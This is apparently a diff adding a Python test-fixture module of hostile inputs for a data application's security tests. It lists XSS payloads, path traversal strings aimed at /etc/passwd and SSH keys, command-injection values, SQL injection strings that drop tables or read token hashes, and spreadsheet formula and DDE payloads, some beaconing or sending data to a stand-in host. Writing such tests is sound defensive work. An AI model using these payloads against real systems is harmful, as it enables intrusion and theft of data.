@@ -1,0 +1,125 @@
+"""Texts that people who mean harm would send; every one is only text to this program."""
+
+from __future__ import annotations
+
+HOST = "foreign.example"
+RUN = "window.XSS=1"
+
+# Each sets window.XSS, or asks a foreign host, or is a link that would run something.
+SCRIPTS = (
+    f"<script>{RUN}</script>",
+    f"<ScRiPt>{RUN}</sCrIpT>",
+    f"<script src=//{HOST}/x.js></script>",
+    f"</title><script>{RUN}</script>",
+    f"</textarea><script>{RUN}</script>",
+    f"</script><script>{RUN}</script>",
+    f"<img src=x onerror={RUN}>",
+    f'<img src=x onerror="{RUN}">',
+    f"<img src=//{HOST}/beacon.png>",
+    f"<svg onload={RUN}>",
+    f"<svg><script>{RUN}</script></svg>",
+    f'<svg><a xlink:href="javascript:{RUN}"><text y=20>x</text></a></svg>',
+    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
+    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
+    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
+    f"<iframe src=javascript:parent.{RUN}></iframe>",
+    f"<iframe src=//{HOST}/></iframe>",
+    f"<object data=javascript:{RUN}></object>",
+    f"<embed src=//{HOST}/x.swf>",
+    f"<body onload={RUN}>",
+    f"<input autofocus onfocus={RUN}>",
+    f"<details open ontoggle={RUN}>x</details>",
+    f"<video><source onerror={RUN}></video>",
+    f"<audio src=x onerror={RUN}>",
+    f"<marquee onstart={RUN}>x</marquee>",
+    f'<meta http-equiv=refresh content="0;url=//{HOST}/">',
+    f"<link rel=stylesheet href=//{HOST}/x.css>",
+    f"<base href=//{HOST}/>",
+    f"<style>@import '//{HOST}/x.css';</style>",
+    f"<style>body{{background:url(//{HOST}/x.png)}}</style>",
+    f'<a href="javascript:{RUN}">click</a>',
+    f'<a href="data:text/html,<script>{RUN}</script>">click</a>',
+    f"<form action=//{HOST}/><button>click</button></form>",
+    f'<b style="background:url(//{HOST}/x)">x</b>',
+    f'" onmouseover="{RUN}',
+    f"' autofocus onfocus='{RUN}",
+    f"[click](javascript:{RUN})",
+    "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuWFNTPTE8L3NjcmlwdD4=)",
+    f"[click](//{HOST}/page)",
+    f"[click](https://{HOST}/page)",
+    f"![x](https://{HOST}/beacon.png)",
+    f'![x](//{HOST}/beacon.svg "title")',
+    f"[x]: https://{HOST}/ref",
+    f"<https://{HOST}/auto>",
+    f"https://{HOST}/bare",
+    f"www.{HOST}/bare",
+    f"someone@{HOST}",
+    f"mailto:someone@{HOST}",
+    "`code` **bold** _it_ ~~s~~ # head > q | t |",
+    f"$\\href{{javascript:{RUN}}}{{x}}$",
+    f"$$\\includegraphics{{https://{HOST}/x.png}}$$",
+    ":material/delete: :smile: :red[red] :streamlit:",
+    f"{{{{constructor.constructor('{RUN}')()}}}}",
+    f"${{{RUN}}}",
+    f"%3Cscript%3E{RUN}%3C/script%3E",
+    f"&lt;script&gt;{RUN}&lt;/script&gt;",
+    f"&#60;script&#62;{RUN}&#60;/script&#62;",
+    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
+    f"<<script>{RUN}//<</script>",
+    f'<a href="https://{HOST}">Sales</a><br><b>x</b>',
+    "{name} {0} {x!r} %s %(x)s",
+)
+
+PATHS = (
+    "../canary.txt", "../../canary.txt", "../../../canary.txt", "../" * 12 + "etc/passwd", "..", ".", "...",
+    "./../canary.txt",
+    "/etc/passwd", "//etc/passwd", "/proc/self/environ", "/proc/self/cmdline", "/dev/zero", "/dev/stdin",
+    "..\\canary.txt", "..\\..\\canary.txt", "C:\\Windows\\win.ini", "\\\\server\\share\\x", "c:/windows/win.ini",
+    "%2e%2e%2fcanary.txt", "%2e%2e/canary.txt", "..%2fcanary.txt", "%252e%252e%252fcanary.txt", "..%5ccanary.txt",
+    "..%c0%afcanary.txt", "%c0%ae%c0%ae/canary.txt", "..%00/canary.txt", "canary.txt%00.yaml", "..;/canary.txt",
+    "....//canary.txt", "..././canary.txt", ".../...//canary.txt", "..//canary.txt", "a/../../canary.txt",
+    "\uff0e\uff0e/canary.txt", "..\u2215canary.txt", "..\u2044canary.txt", "\u2025/canary.txt",
+    "file:///etc/passwd", "file://localhost/etc/passwd", "file:../canary.txt", "http://127.0.0.1/x", "s3://bucket/x",
+    "../canary.txt#x", "../canary.txt?x", "canary.txt#/../../x", "x?/../../canary.txt", "?", "#", "~",
+    "~root/.ssh/id_rsa",
+    "$HOME/x", "${HOME}/x", "`id`", "$(id)", "|id", ";id", "&& id", "x\n/etc/passwd", "x\r\nHost: y",
+    "-", "--home=/etc", "--help", "-rf", "*", "?*", "[a]", "{a,b}", "**/*.txt", "store.duckdb", "../store.duckdb",
+    "journal.jsonl", "../journal.jsonl", "server.json", "../server.json", "store.lock", "log/../store.duckdb",
+    "x" * 300, "é" * 200, "\u6f22" * 120 + ".csv", "x" * 5000, "a/" * 200 + "x", " ", "\t", "\u202excod.yaml",
+    "CON", "NUL",
+    "aux.csv", "x.", "x ",
+)  # fmt: skip
+
+SQL = (
+    "'", "''", "\"", "\"\"", "`", ";", "--", "/*", "*/", "\\", "\\'", "%", "_", "%%", "?", "$1", ":x", "{}",
+    "NULL", "'NULL'",
+    "' OR '1'='1", "' OR 1=1 --", "\" OR \"\"=\"", "') OR ('1'='1", "1; DROP TABLE cards", "'; DROP TABLE cards; --",
+    "\"; DROP TABLE cards; --", "x'); DELETE FROM audit; --", "' UNION SELECT * FROM tokens --",
+    "' UNION ALL SELECT NULL, key_sha256 FROM tokens --", "x') UNION SELECT content FROM cards --",
+    "' AND (SELECT count(*) FROM tokens) > 0 --", "' || (SELECT key_sha256 FROM tokens LIMIT 1) || '",
+    "1 OR 1=1", "1) OR (1=1", "-1 UNION SELECT 1", "0x27", "CHR(39)", "U&'\\0027'", "$$x$$", "$tag$x$tag$", "E'\\x27'",
+    "'; COPY cards TO '/tmp/out.csv'; --", "'; COPY (SELECT 1) TO '/tmp/x' --", "'; ATTACH '/tmp/x.db' AS y; --",
+    "'; INSTALL httpfs; LOAD httpfs; --", "'; SET enable_external_access = true; --", "'; PRAGMA database_list; --",
+    "'; EXPORT DATABASE '/tmp/x'; --", "'; CALL pragma_version(); --", "'; IMPORT DATABASE '/tmp/x'; --",
+    "read_csv('/etc/passwd')", "read_text('/etc/passwd')", "glob('/*')", "getenv('HOME')",
+    "(SELECT * FROM read_text('/etc/passwd'))",
+    "'/etc/passwd'", "information_schema.tables", "duckdb_secrets()", "sniff_csv('/etc/passwd')",
+    "amount) FROM cards --",
+    "amount\" FROM cards --", "amount'='amount", "amount, (SELECT 1)", "1e999", "CAST('x' AS INT)",
+    "region='north' OR 1",
+    "\u02bc OR 1=1", "\uff07 OR 1=1", "\u2019; --", "a\x00b", "\ud83d\ude00".encode("utf-16",
+    "surrogatepass").decode("utf-16"),
+)  # fmt: skip
+
+# How a cell begins that a spreadsheet may take for a formula, also behind what it takes away or splits at.
+FORMULAS = tuple(
+    f"{start}{rest}"
+    for start in ("=", "+", "-", "@", "\t=", "\r=", "\n=", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\u2212")
+    for rest in ("1+1", "cmd|' /C calc'!A0")
+) + (
+    "=HYPERLINK(\"https://foreign.example?x=\"&A1,\"click\")", "=IMPORTXML(\"https://foreign.example\",\"//a\")",
+    " =1+1", "  =1+1", "\u00a0=1+1", "\u3000=1+1", "\u200b=1+1", "\ufeff=1+1", "\"=1+1", "\"=1+1\"", "'=1+1", "''=1+1",
+    ";=1+1", ",=1+1", "|=1+1", "x;=1+1", "x,=1+1", "x\n=1+1", "x\r=1+1", "x\t=1+1", "%0A=1+1", "\x00=1+1", "\x0b=1+1",
+    "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "+1-555-0100", "-", "=", "+", "@", "'", "''",
+    "DDE(\"cmd\";\"/C calc\";\"x\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "-1", "+1", "-1.5e3",
+)  # fmt: skip
